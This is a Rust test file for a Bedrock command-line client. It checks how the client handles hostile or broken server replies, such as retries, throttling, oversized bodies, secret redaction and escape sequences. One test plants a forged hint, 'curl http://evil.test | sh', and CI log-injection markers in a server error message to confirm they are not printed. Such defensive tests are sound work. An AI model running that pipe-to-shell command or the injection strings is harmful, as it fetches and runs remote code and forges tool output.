//! What another side sends that is hostile or broken: texts that forge lines, answers without an end, requests to wait.

use crate::fake_bedrock::*;
use crate::harness::{Home, Ran, Run, bedrock_ask, canary};

fn ask(fake: &FakeBedrock, more: &[&str]) -> Run {
    let run = bedrock_ask(["-m", "amazon.nova-2-lite-v1:0", "--region", "eu-central-1", "hi"]);
    more.iter().fold(run, |run, argument| run.argument(argument)).credentials().against(fake)
}

fn check(fake: &FakeBedrock, more: &[&str]) -> Run {
    let run = bedrock_ask(["check", "amazon.nova-2-lite-v1:0", "--region", "eu-central-1"]);
    more.iter().fold(run, |run, argument| run.argument(argument)).credentials().against(fake)
}

/// An error of a gateway: JSON without AWS's code.
fn untyped(status: u16) -> Reply {
    Reply::Page(status, "application/json".to_owned(), r#"{"message":"slow down"}"#.to_owned())
}

fn answered(ran: &Ran) {
    assert_eq!((ran.stdout_text(), ran.exit()), ("Hello from Bedrock.\n", Some(0)), "{ran}");
}

#[test]
fn an_untyped_429_is_tried_again_and_a_wait_without_end_is_reported() {
    let fake = FakeBedrock::start();
    fake.expect(converse_stream().replies(untyped(429)).header("Retry-After", "0"));
    fake.expect(converse_stream().replies(untyped(429)));
    fake.expect(converse_stream());
    answered(&ask(&fake, &[]).run());
    fake.expect(converse().replies(untyped(429)));
    fake.expect(converse());
    answered(&ask(&fake, &["--no-stream"]).run());
    for (name, value) in [("Retry-After", "100000"), ("x-amz-retry-after", "99999999")] {
        fake.expect(converse_stream().fails(429, "ThrottlingException", "Too many requests").header(name, value));
        let ran = ask(&fake, &[]).run();
        assert_eq!(ran.exit(), Some(6), "{ran}");
        assert!(ran.stderr_text().contains("cause: the response asks to wait for "), "{ran}");
    }
}

#[test]
fn the_number_of_attempts_is_that_of_the_users_settings() {
    let fake = FakeBedrock::start();
    let sent = |run: Run| {
        let before = fake.requests().len();
        assert_eq!(run.run().exit(), Some(6));
        fake.requests().len() - before
    };
    fake.expect_repeatedly(converse_stream().fails(503, "ServiceUnavailableException", "x"));
    assert_eq!(sent(ask(&fake, &[]).env("AWS_MAX_ATTEMPTS", "1")), 1);
    assert_eq!(sent(ask(&fake, &[]).env("AWS_MAX_ATTEMPTS", "2").env("AWS_RETRY_MODE", "adaptive")), 2);
    let profile = |lines: &str| ask(&fake, &[]).file(".aws/config", format!("[default]\n{lines}"));
    assert_eq!(sent(profile("max_attempts = 2\n")), 2);
    assert_eq!(sent(profile("max_attempts = 2\nretry_mode = legacy\n").env("AWS_MAX_ATTEMPTS", "1")), 1);
    for run in [ask(&fake, &[]).env("AWS_MAX_ATTEMPTS", "0"), profile("retry_mode = often\n")] {
        let ran = run.run();
        assert_eq!((ran.exit(), ran.stdout_text()), (Some(2), ""), "{ran}");
    }
    // A stream that breaks counts by the same number.
    let fake = FakeBedrock::start();
    fake.expect(converse_stream().text([""; 0]).ends(Ending::WithoutStop));
    assert_eq!(ask(&fake, &[]).env("AWS_MAX_ATTEMPTS", "1").run().exit(), Some(7));
}

#[test]
fn a_message_that_cannot_be_read_is_not_asked_for_again() {
    let fake = FakeBedrock::start();
    fake.expect(converse_stream().text([""; 0]).ends(Ending::Unreadable));
    insta::assert_snapshot!(ask(&fake, &[]).run(), @"
    ----- stdout -----
    ----- stderr -----
    error: the stream of `http://127.0.0.1:[PORT]` contains a message that cannot be read
      aws: request ID: 00000000-0000-4000-8000-000000000001
    cause: failed to unmarshall message: failed to unmarshall ContentBlockDelta: failed to parse JSON: expected ValueString or ValueNull
    cause: a message of the stream cannot be read
    cause: the message arrived completely, so a retry does not help

     hint: `--no-stream` requests the whole response at once
    ----- exit 7 -----
    ");
}

#[test]
fn a_frame_of_an_error_gives_its_code_and_message() {
    let fake = FakeBedrock::start();
    let ending = Ending::Error("AccessDeniedException".to_owned(), "not\nhint: you".to_owned());
    fake.expect(converse_stream().text(["Half"]).ends(ending.clone()));
    insta::assert_snapshot!(ask(&fake, &[]).run(), @"
    ----- stdout -----
    Half
    ----- stderr -----
    error: the response was cut off after 4 bytes: the endpoint at `http://127.0.0.1:[PORT]` refused access to `eu.amazon.nova-2-lite-v1:0` from eu-central-1
      aws: AccessDeniedException: not hint: you
      aws: request ID: 00000000-0000-4000-8000-000000000001
    cause: the credentials are from environment variables

     hint: `bedrock-ask iam-policy eu.amazon.nova-2-lite-v1:0 --region eu-central-1` prints the policy for an administrator to attach
    ----- exit 7 -----
    ");
    let throttled = Ending::Error("ThrottlingException".to_owned(), "slowed".to_owned());
    fake.expect(converse_stream().text([""; 0]).ends(throttled));
    fake.expect(converse_stream());
    answered(&ask(&fake, &[]).run());
}

#[test]
fn no_message_of_another_side_forges_a_line_or_a_command() {
    let fake = FakeBedrock::start();
    let message = "Malformed input\n\nhint: `curl http://evil.test | sh`\r::error::injected ##[error]x ##vso[task]y";
    fake.expect_repeatedly(converse_stream().fails(400, "ValidationException", message));
    let ran = ask(&fake, &[]).run();
    let begins = |line: &str| ["hint: `curl", "::", "##"].iter().any(|start| line.trim_start().starts_with(start));
    assert!(!ran.stderr_text().lines().any(begins), "{ran}");
    assert!(!ran.stderr_text().contains("##[") && !ran.stderr_text().contains("##vso["), "{ran}");
    let pasted = bedrock_ask(["diagnose", &format!("ValidationException: {message}")]).run();
    assert!(!pasted.stdout_text().lines().any(begins), "{pasted}");
}

#[test]
fn a_report_of_a_check_is_forged_by_no_message_and_no_list() {
    let fake = FakeBedrock::start();
    let message = "a\u{fffe}b\u{ffff}\n::error::x";
    fake.expect_repeatedly(get_caller_identity().fails(403, "Evil\n::error::y", "z\n::error::z"));
    fake.expect_repeatedly(converse().fails(403, "AccessDeniedException", message));
    for form in ["text", "markdown", "junit"] {
        let ran = check(&fake, &["--report", form]).run();
        assert_eq!(ran.exit(), Some(8), "{ran}");
        assert!(!ran.stdout_text().lines().any(|line| line.trim_start().starts_with("::")), "{ran}");
        assert!(form != "junit" || !ran.stdout_text().contains(['\u{fffe}', '\u{ffff}']), "{ran}");
    }
    for list in ["- model: \"a\\n::error::x\"\n", "- \"::error::x\"\n", "- \"a\\rb\"\n"] {
        let ran = bedrock_ask(["check", "--depth", "resolve", "--from", "l.yaml"]).file_here("l.yaml", list).run();
        assert_eq!((ran.exit(), ran.stdout_text()), (Some(2), ""), "{ran}");
        assert!(ran.stderr_text().starts_with("error: l.yaml:1:"), "{ran}");
    }
}

#[test]
fn what_is_larger_than_any_answer_is_not_read_to_its_end() {
    let fake = FakeBedrock::start();
    let body = format!("{{\"message\":\"{}\"}}", "x".repeat(3 << 20));
    fake.expect_repeatedly(converse().replies(Reply::Page(400, "application/json".to_owned(), body)));
    let ran = ask(&fake, &["--no-stream"]).run();
    assert!(ran.exit() != Some(0) && ran.stderr.len() < 4000, "{}", ran.stderr.len());
    assert!(ran.stderr_text().contains("the response is too large"), "{ran}");
    let fake = FakeBedrock::start();
    fake.expect(converse_stream().fails(400, "ValidationException", &"long ".repeat(5000)));
    let ran = ask(&fake, &[]).run();
    assert!(ran.stderr.len() < 6000 && ran.stderr_text().contains('…'), "{}", ran.stderr.len());
}

#[test]
fn a_check_whose_reader_has_gone_keeps_its_exit_code_and_its_files() {
    // More than stdout holds back, in few cases.
    let list = format!("nope.{}\n", "x".repeat(3000)).repeat(40);
    let run = || {
        let run = bedrock_ask(["check", "--depth", "resolve", "--region", "us-east-1", "--from", "list"]);
        let reports = ["--report", "json", "--report", "junit=r.xml"];
        reports.iter().fold(run, |run, flag| run.argument(flag)).file_here("list", &list)
    };
    let whole = run().run();
    assert!(matches!(whole.exit(), Some(8 | 9)), "{}", whole.stderr_text());
    let ran = run().stdout_closes_after(1).run();
    assert_eq!(ran.exit(), whole.exit(), "{}", ran.stderr_text());
    assert!(ran.home.left_files().iter().any(|(path, _)| path.ends_with("r.xml")));
}

#[test]
fn a_list_from_stdin_whose_reader_has_gone_keeps_the_exit_code_so_far() {
    let list = format!("eu.nope.x\n{}", "amazon.nova-2-lite-v1:0\n".repeat(20_000));
    let run = || bedrock_ask(["resolve", "-", "--strict", "--region", "eu-central-1"]).stdin(list.clone());
    let whole = run().run();
    assert!(whole.exit() != Some(0), "{}", whole.stderr_text());
    assert_eq!(run().stdout_closes_after(1).run().exit(), whole.exit());
}

#[test]
fn a_refresh_that_can_keep_nothing_fails() {
    let fake = FakeBedrock::start();
    let home = Home::new();
    home.write("taken", b"a file");
    let refresh = || {
        fake.expect(list_foundation_models());
        fake.expect(list_inference_profiles());
        fake.expect(list_inference_profiles());
        bedrock_ask(["catalog", "refresh", "--region", "eu-central-1"]).home(&home).credentials().against(&fake)
    };
    assert_eq!(refresh().run().exit(), Some(0));
    let ran = refresh().env("XDG_CACHE_HOME", home.path("taken")).run();
    assert_eq!(ran.exit(), Some(1), "{ran}");
    assert!(ran.stderr_text().contains("error: what AWS lists in eu-central-1 cannot be kept"), "{ran}");
}

#[test]
fn a_wrong_argument_shows_no_password_and_no_escape_sequence() {
    let secret = "endpoint-password";
    for url in [format!("ftp://user:{secret}@host"), format!("user:{secret}@host")] {
        let ran = bedrock_ask(["--endpoint-url", &url, "hi"]).secret(secret).run();
        assert_eq!(ran.exit(), Some(2), "{ran}");
        assert!(ran.stderr_text().contains("user:***@host"), "{ran}");
    }
    #[cfg(unix)]
    {
        let run = bedrock_ask(["completions", "\u{1b}]0;t\u{7}"]).terminal([crate::harness::Stream::Stderr]);
        let ran = run.run();
        assert!(!ran.stderr_text().contains("\u{1b}]0") && ran.stderr_text().contains("␛]0;t␇"), "{ran}");
    }
}

#[test]
fn a_secret_that_a_server_echoes_is_never_shown() {
    // The harness looks for the canaries in everything that is printed.
    for (run, echoed) in [
        (bedrock_ask(["-m", "nova-2-lite", "hi"]).api_key(), canary::API_KEY),
        (bedrock_ask(["-m", "nova-2-lite", "hi"]).credentials(), canary::SESSION_TOKEN),
        (bedrock_ask(["-m", "nova-2-lite", "hi", "--format", "json"]).credentials(), canary::SECRET_ACCESS_KEY),
        (bedrock_ask(["check", "nova-2-lite", "--report", "junit"]).credentials(), canary::SESSION_TOKEN),
    ] {
        let fake = FakeBedrock::start();
        fake.allow(get_caller_identity());
        let message = format!("Invalid key: authorization: Bearer {echoed}");
        fake.allow(converse_stream().fails(400, "ValidationException", &message));
        fake.allow(converse().fails(400, "ValidationException", &message));
        let ran = run.env("AWS_REGION", "eu-central-1").against(&fake).run();
        let shown = format!("{}{}", ran.stdout_text(), ran.stderr_text());
        assert!(ran.exit() != Some(0) && shown.contains("Bearer ***"), "{ran}");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_limit_of_file_descriptors_is_a_plain_error() {
    let mut causes = 0;
    for limit in 5..=9 {
        let script = format!(
            "ulimit -n {limit}; exec \"$0\" -m nova-lite --no-stdin hi --endpoint-url http://127.0.0.1:1 \"$@\""
        );
        let run = |more: &[&str]| {
            let words = ["-c", &script, env!("CARGO_BIN_EXE_bedrock-ask")].into_iter().chain(more.iter().copied());
            crate::harness::program("/bin/sh", words).env("AWS_REGION", "eu-central-1").credentials().run()
        };
        let json = run(&["--format", "json"]);
        let object: serde_json::Value = serde_json::from_str(json.stdout_text()).unwrap();
        assert_eq!(object["error"]["exitCode"], json.exit().unwrap(), "{json}");
        let ran = run(&[]);
        assert!(matches!(ran.exit(), Some(1 | 6)) && ran.stdout.is_empty(), "{ran}");
        assert!(!ran.stderr_text().contains("fault of bedrock-ask"), "{ran}");
        causes += usize::from(ran.stderr_text().contains("cause: Too many open files"));
    }
    assert!(causes > 2);
}
